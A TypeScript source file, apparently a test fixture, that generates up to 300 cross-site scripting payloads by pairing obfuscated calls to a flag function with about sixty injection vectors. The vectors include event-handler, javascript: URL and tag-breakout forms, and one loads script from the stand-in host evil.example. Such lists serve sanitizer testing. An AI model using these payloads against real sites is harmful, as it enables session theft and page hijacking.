/** The function that a payload calls if it runs. */
export const FLAG = 'xssRan'

/** 300 texts that run a script if a page treats them as markup, as an address or as part of either. */
export function xssPayloads(): string[] {
  return CALLS.flatMap(call => VECTORS.map(vector => vector.replaceAll('CALL', call))).slice(0, 300)
}

/** Ways to call the flag that filters have missed. */
const CALLS = [
  `${FLAG}()`,
  `${FLAG}\`\``,
  `top.${FLAG}()`,
  `&#${FLAG.charCodeAt(0)};${FLAG.slice(1)}&lpar;&rpar;`,
  `\\u00${FLAG.charCodeAt(0).toString(16)}${FLAG.slice(1)}()`,
  `window['${FLAG}']()`,
]

/** Ways to turn a text into a script. */
const VECTORS = [
  '<script>CALL</script>',
  '<ScRiPt>CALL</sCrIpT>',
  '<script\t>CALL</script\n>',
  '</script><script>CALL</script>',
  '</title><script>CALL</script>',
  '</textarea><script>CALL</script>',
  '</style><script>CALL</script>',
  '--><script>CALL</script>',
  ']]><script>CALL</script>',
  '"><script>CALL</script>',
  "'><script>CALL</script>",
  '<script/src=data:,CALL></script>',
  '<script src=//evil.example/?CALL></script>',
  '<script type=module>CALL</script>',
  '<img src=x onerror=CALL>',
  '<img/src/onerror=CALL>',
  '"><img src=x onerror=CALL>',
  "'><img src=x onerror=CALL>",
  '<img src=x onerror="CALL"//',
  '" onerror="CALL" x="',
  "' onmouseover='CALL' x='",
  '" autofocus onfocus="CALL" x="',
  '<svg onload=CALL>',
  '<svg/onload=CALL>',
  '"><svg onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:CALL><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=CALL>">',
  '<math><mtext><script>CALL</script>',
  '<body onload=CALL>',
  '<iframe src=javascript:CALL></iframe>',
  '<iframe srcdoc="<script>CALL</script>"></iframe>',
  '<object data=javascript:CALL></object>',
  '<embed src=javascript:CALL>',
  '<details open ontoggle=CALL>',
  '<video><source onerror=CALL></video>',
  '<audio src=x onerror=CALL>',
  '<input autofocus onfocus=CALL>',
  '<select autofocus onfocus=CALL>',
  '<marquee onstart=CALL>',
  '<style>@import"javascript:CALL"</style>',
  '<link rel=stylesheet href=javascript:CALL>',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href=javascript:CALL//>',
  '<form action=javascript:CALL><input type=submit autofocus>',
  '<a href=javascript:CALL>x</a>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  'javascript:CALL',
  'jAvAsCrIpT:CALL',
  'java\tscript:CALL',
  'data:text/html,<script>CALL</script>',
  '{{constructor.constructor("CALL")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template's placeholder is the payload
  '${CALL}',
  '`-CALL-`',
  '";CALL;//',
  "';CALL;//",
  '\u2028CALL',
  '%3Cscript%3ECALL%3C/script%3E',
  '&lt;script&gt;CALL&lt;/script&gt;',
]
